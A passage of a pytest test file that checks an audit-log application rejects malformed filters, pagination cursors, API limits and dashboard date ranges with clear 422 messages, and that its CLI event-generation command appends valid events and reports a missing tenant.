        ("conversation=abc", "The conversation is a number"),
        ("conversation=99999999999999999999", "The conversation is a number"),
        ("q=" + "x" * 201, "at most 200 characters"),
        ("person=" + "p" * 300, "at most 254 characters"),
        ("action=" + "a" * 65, "at most 64 characters"),
    ],
)
def test_bad_filters_get_a_message_not_a_500(app, api, query, words):
    client = session_as(app, AUDITOR)
    for url in (f"/audit?{query}", f"/audit/export.csv?{query}"):
        response = client.get(url)
        assert response.status_code == 422, url
        assert words in response.get_data(as_text=True), url
    reply = api.as_(AUDITOR).get(f"/api/audit?{query}")
    assert reply.status_code == 422
    assert reply.json["error"] == "invalid_filter" and words in reply.json["message"]


@pytest.mark.parametrize(
    "cursor",
    [
        "12abc",  # not base64
        "42",  # an event id, as the old links had
        encode_cursor(["42"]),  # not a number
        encode_cursor([42, 43]),  # two keys
        encode_cursor([10**30]),  # no event has such an id (SQLite could not even compare it)
        encode_cursor([42])[:-2],  # cut short
    ],
)
def test_a_bad_cursor_gets_a_message_and_the_filters_stay(app, api, cursor):
    client = session_as(app, AUDITOR)
    for headers in ({}, {"HX-Request": "true"}):
        page = client.get("/audit", query_string={"action": "model_call", "cursor": cursor}, headers=headers)
        html = page.get_data(as_text=True)
        assert page.status_code == 422 and "go back to the first page" in html, cursor
        assert 'href="/audit?action=model_call">The first page of these filters' in html
    assert '<option value="model_call" selected>' in client.get(f"/audit?action=model_call&cursor={cursor}").text
    reply = api.as_(AUDITOR).get("/api/audit", query_string={"action": "model_call", "cursor": cursor})
    assert reply.status_code == 422 and reply.json["error"] == "invalid_filter"
    assert "next_cursor of an earlier answer" in reply.json["message"]
    assert "leave it out" in reply.json["message"]


def test_bad_api_limits_and_dashboard_ranges_get_a_message(app, api):
    for limit in ("0", "501", "ten"):
        reply = api.as_(AUDITOR).get(f"/api/audit?limit={limit}")
        assert reply.status_code == 422 and "limit" in reply.json["message"]
    client = session_as(app, AUDITOR)
    for query, words in (
        ("from=someday", "“From” must be a date"),
        ("from=2020-01-01&to=2026-01-01", "at most 366 days"),
    ):
        page = client.get(f"/audit/dashboard?{query}")
        assert page.status_code == 200 and words in page.get_data(as_text=True)


def test_the_generate_command_appends_valid_events_and_names_a_missing_tenant(app, cli, fresh):
    result = cli("audit", "generate", "2500", "--tenant", "globex")
    assert result.exit_code == 0, result.output
    assert "Generated 2,500 events on the chain of globex" in result.output
    again = cli("audit", "generate", "300", "--tenant", "globex")  # appends to the same chain
    assert again.exit_code == 0, again.output
    assert "Audit log intact: 2800 events in 1 chains." in cli("audit", "verify").output
    missing = cli("audit", "generate", "10", "--tenant", "nowhere")
    assert missing.exit_code == 2 and "No tenant 'nowhere'" in missing.output
    assert cli("audit", "generate", "0").exit_code == 2
